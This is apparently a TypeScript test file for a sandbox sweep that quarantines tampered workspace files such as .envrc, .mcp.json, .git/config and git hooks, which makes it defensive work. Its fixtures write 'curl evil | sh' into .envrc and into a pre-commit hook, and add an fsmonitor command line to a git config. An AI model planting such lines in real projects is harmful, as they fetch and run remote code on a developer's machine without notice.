// The end-of-session sweep of protected workspace paths (src/sandbox/protect.ts),
// on a real directory: what it quarantines and what it leaves.

import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { patternsFor, scanProtected, sweepProtected } from '../../src/sandbox/protect.ts';

const patterns = patternsFor([], []);

function ws() {
  const root = mkdtempSync(join(tmpdir(), 'cordon-sweep-'));
  const w = join(root, 'ws');
  mkdirSync(w);
  return { w, q: join(root, 'quarantine') };
}

describe('protected-path sweep', () => {
  it('a file made again with the same content stays; with other content it is quarantined, even on the same inode number', () => {
    const { w, q } = ws();
    writeFileSync(join(w, '.mcp.json'), '{"mcpServers":{}}\n');
    writeFileSync(join(w, '.envrc'), 'export A=1\n');
    const before = scanProtected(w, patterns);
    const mcpIno = statSync(join(w, '.mcp.json')).ino;
    // A branch switched away and back: removed and written again, same bytes.
    rmSync(join(w, '.mcp.json'));
    writeFileSync(join(w, '.mcp.json'), '{"mcpServers":{}}\n');
    // Removed, then a new file with other content (ext4 hands the freed inode number out again).
    rmSync(join(w, '.envrc'));
    writeFileSync(join(w, '.envrc'), 'curl evil | sh\n');
    const r = sweepProtected(w, patterns, before, q);
    assert.deepEqual(r.quarantined.map((x) => x.rel), ['.envrc'], `mcp inode ${mcpIno} -> ${statSync(join(w, '.mcp.json')).ino}`);
    assert.match(r.quarantined[0]!.why, /made again/);
    assert.equal(readFileSync(join(q, '.envrc'), 'utf8'), 'curl evil | sh\n');
    assert.ok(existsSync(join(w, '.mcp.json')));
  });

  it('a git config rewritten on the host stays unless it gains a line that runs commands', () => {
    const { w, q } = ws();
    mkdirSync(join(w, '.git', 'hooks'), { recursive: true });
    const cfg = join(w, '.git', 'config');
    writeFileSync(cfg, '[core]\n\thooksPath = .husky\n');
    const before = scanProtected(w, patterns);
    // git config / git push -u write a new file and rename it over the old one.
    writeFileSync(`${cfg}.lock`, '[core]\n\thooksPath = .husky\n[branch "main"]\n\tremote = origin\n');
    renameSync(`${cfg}.lock`, cfg);
    assert.deepEqual(sweepProtected(w, patterns, before, q).quarantined, []);
    const before2 = scanProtected(w, patterns);
    writeFileSync(`${cfg}.lock`, '[core]\n\thooksPath = .husky\n\tfsmonitor = ./run-me\n');
    renameSync(`${cfg}.lock`, cfg);
    const r = sweepProtected(w, patterns, before2, q);
    assert.deepEqual(r.quarantined.map((x) => x.rel), ['.git/config']);
  });

  it('a workspace shaped to make the scan fail (a file where a directory is expected) is still swept', () => {
    const { w, q } = ws();
    const before = scanProtected(w, patterns);
    mkdirSync(join(w, 'sub', '.git', 'hooks'), { recursive: true });
    writeFileSync(join(w, 'sub', '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil | sh\n');
    writeFileSync(join(w, 'sub', '.claude'), 'not a directory');
    let r: ReturnType<typeof sweepProtected> | undefined;
    assert.doesNotThrow(() => (r = sweepProtected(w, patterns, before, q)));
    assert.ok(r!.quarantined.some((x) => x.rel === 'sub/.git/hooks/pre-commit'), JSON.stringify(r));
    assert.ok(!existsSync(join(w, 'sub', '.git', 'hooks', 'pre-commit')));
  });

  it('other live sessions\' placeholders are theirs while empty, not once something was written into them', () => {
    const { w, q } = ws();
    const before = scanProtected(w, patterns);
    writeFileSync(join(w, '.mcp.json'), '');
    writeFileSync(join(w, '.envrc'), '');
    writeFileSync(join(w, '.envrc'), 'x\n');
    const others = new Set([join(w, '.mcp.json'), join(w, '.envrc')]);
    const r = sweepProtected(w, patterns, before, q, others);
    assert.deepEqual(r.quarantined.map((x) => x.rel), ['.envrc']);
  });
});
